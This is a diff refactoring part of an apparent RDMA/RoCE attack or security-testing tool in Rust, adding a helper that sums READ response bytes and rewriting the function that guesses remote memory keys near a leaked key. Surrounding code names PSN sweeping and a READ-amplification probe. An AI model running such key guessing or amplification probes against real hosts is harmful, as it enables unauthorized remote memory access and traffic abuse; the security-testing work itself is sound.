@@ -280,6 +280,15 @@ fn tally(answers: &[Answer]) -> String {
     }
 }
 
+/// Bytes (IP datagrams) of the READ responses among `answers`.
+fn read_bytes(answers: &[Answer]) -> u64 {
+    answers
+        .iter()
+        .filter(|x| x.kind == "READ response")
+        .map(|x| x.bytes)
+        .sum()
+}
+
 fn is_ack(a: &Answer) -> bool {
     matches!(a.syndrome, Some(AethSyndrome::Ack { .. }))
 }
@@ -417,14 +426,11 @@ fn psn_sweep(a: &mut Attacker<'_>) -> Result<Option<String>, TargetError> {
 fn rkey_guesses(leaked: u32) -> impl Iterator<Item = u32> {
     const STRIDES: [u32; 6] = [1, 0x100, 0x80, 0x1000, 0x10000, 0x100_0000];
     let near = STRIDES.into_iter();
-    let index = (1u32..=8).flat_map(move |k| {
-        let d = k.wrapping_mul(0x100);
-        (0..=0xffu32).map(move |b| (leaked.wrapping_add(d) & !0xff) | b)
-    });
-    let below = (1u32..=8).flat_map(move |k| {
-        let d = k.wrapping_mul(0x100);
-        (0..=0xffu32).map(move |b| (leaked.wrapping_sub(d) & !0xff) | b)
-    });
+    // Every key of the index `k` MR indexes away (any low byte).
+    let index_block =
+        move |k: u32| (0..=0xffu32).map(move |b| (leaked.wrapping_add(k << 8) & !0xff) | b);
+    let index = (1u32..=8).flat_map(index_block);
+    let below = (1u32..=8).flat_map(move |k| index_block(k.wrapping_neg()));
     let far = (2u32..=0x400).flat_map(|k| STRIDES.into_iter().map(move |s| k.wrapping_mul(s)));
     let mut seen = BTreeSet::from([leaked]);
     near.flat_map(move |d| [leaked.wrapping_add(d), leaked.wrapping_sub(d)])
@@ -608,12 +614,7 @@ fn read_amplification(a: &mut Attacker<'_>) -> Result<Option<String>, TargetErro
     };
     a.send(&p);
     let sent = a.bytes_sent;
-    let ans = a.answers(SURE_US);
-    let got: u64 = ans
-        .iter()
-        .filter(|x| x.kind == "READ response")
-        .map(|x| x.bytes)
-        .sum();
+    let got = read_bytes(&a.answers(SURE_US));
     let factor = got as f64 / sent.max(1) as f64;
     let over = a.read(
         psn.wrapping_add(len.div_ceil(mtu)) & 0xff_ffff,
@@ -623,11 +624,7 @@ fn read_amplification(a: &mut Attacker<'_>) -> Result<Option<String>, TargetErro
         a.send(&p);
     }
     let over_ans = a.answers(SURE_US);
-    let over_got: u64 = over_ans
-        .iter()
-        .filter(|x| x.kind == "READ response")
-        .map(|x| x.bytes)
-        .sum();
+    let over_got = read_bytes(&over_ans);
     a.observe()?;
     let text = format!(
         "READ of {len} B: {got} B answered for {sent} B sent, {factor:.0}x; READ of {} B: {}{}",
